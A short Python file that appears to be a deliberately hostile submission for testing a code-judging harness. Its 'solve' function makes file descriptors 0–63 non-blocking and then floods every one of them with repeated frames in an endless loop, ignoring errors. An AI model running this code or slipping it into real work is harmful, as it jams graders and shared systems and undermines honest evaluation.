"""Sends frames without an end, as fast as it can."""

import os

STOPPED = True


def solve(outside):
    for number in range(64):
        try:
            os.set_blocking(number, False)
        except OSError:
            pass
    while True:
        for number in range(64):
            try:
                os.write(number, bytes([1, 0, 0, 0, 0]) * 10_000)
            except OSError:
                pass
